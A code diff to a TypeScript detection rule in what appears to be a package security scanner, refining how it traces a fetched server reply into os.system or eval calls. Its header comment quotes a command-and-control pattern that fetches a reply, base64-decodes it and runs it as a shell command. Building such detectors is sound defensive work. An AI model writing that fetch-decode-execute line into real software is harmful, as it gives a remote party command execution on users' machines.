@@ -1,7 +1,15 @@
 // A server's reply run as a command: `resp = requests.get(C2)` then `os.system(base64.b64decode(resp.text))`.
 // The shape of a remote-control implant in a trojanized client: nothing in the package says what will run.
 import type { CallSite, ParsedFile } from '../python/index.js';
-import { callHit, DYNAMIC_EXEC, lastAssignment, NETWORK_CALL, PROCESS_CALL } from './context.js';
+import {
+  bodyStart,
+  callHit,
+  DYNAMIC_EXEC,
+  lastAssignment,
+  NETWORK_CALL,
+  namesOutsideStrings,
+  PROCESS_CALL,
+} from './context.js';
 import type { Rule, RuleHit } from './types.js';
 
 /** How far above a call its value may have been fetched (one function, in practice). */
@@ -14,7 +22,6 @@ const MAX_LOOKUPS = 24;
 const MAX_TEXT = 400;
 const DECODER =
   /\b(b64decode|b32decode|b85decode|a85decode|urlsafe_b64decode|decodebytes|decompress|fromhex|unhexlify|a2b_base64|decrypt)\s*\(/;
-const NAME = /\b([A-Za-z_]\w*)\b/g;
 const RESPONSE_READ = /\.(text|content|read|json|iter_content|readlines)\b/;
 const networkLines = new WeakMap<ParsedFile, Map<number, CallSite>>();
 
@@ -34,6 +41,7 @@ function fetchedInto(
   file: ParsedFile,
   text: string,
   line: number,
+  from: number,
   hops: number,
   budget = { lookups: MAX_LOOKUPS },
 ): { fetch: CallSite; decoded: boolean } | undefined {
@@ -42,14 +50,9 @@ function fetchedInto(
   if (inline && text.includes(inline.text.slice(0, 40)) && RESPONSE_READ.test(text))
     return { fetch: inline, decoded };
   if (hops >= MAX_HOPS) return undefined;
-  const names = new Set<string>();
-  for (const m of text.matchAll(NAME)) {
-    names.add(m[1]!);
-    if (names.size >= MAX_NAMES) break;
-  }
-  for (const name of names) {
+  for (const name of namesOutsideStrings(text, MAX_NAMES)) {
     if (--budget.lookups < 0) return undefined;
-    const at = lastAssignment(file, name, Math.max(1, line - WINDOW), line - 1);
+    const at = lastAssignment(file, name, from, line - 1);
     if (at === undefined) continue;
     const assigned = file.lines[at - 1] ?? '';
     const rhs = assigned.slice(assigned.indexOf('=') + 1, assigned.indexOf('=') + 1 + MAX_TEXT);
@@ -60,7 +63,7 @@ function fetchedInto(
         return { fetch, decoded: decoded || DECODER.test(rhs) };
       continue;
     }
-    const deeper = fetchedInto(file, rhs, at, hops + 1, budget);
+    const deeper = fetchedInto(file, rhs, at, from, hops + 1, budget);
     if (deeper) return { fetch: deeper.fetch, decoded: decoded || deeper.decoded };
   }
   return undefined;
@@ -80,7 +83,13 @@ export const remoteCommand: Rule = {
       if (c.role === 'test') continue;
       const isProcess = PROCESS_CALL.test(c.name);
       if (!isProcess && !DYNAMIC_EXEC.test(c.name)) continue;
-      const found = fetchedInto(file, c.args.join(', ').slice(0, MAX_TEXT), c.line, 0);
+      const found = fetchedInto(
+        file,
+        c.args.join(', ').slice(0, MAX_TEXT),
+        c.line,
+        bodyStart(file, c, WINDOW),
+        0,
+      );
       if (!found || (!isProcess && !found.decoded)) continue;
       const severity = isProcess && found.decoded ? 'critical' : 'high';
       const how = found.decoded ? 'decoded reply' : 'reply';
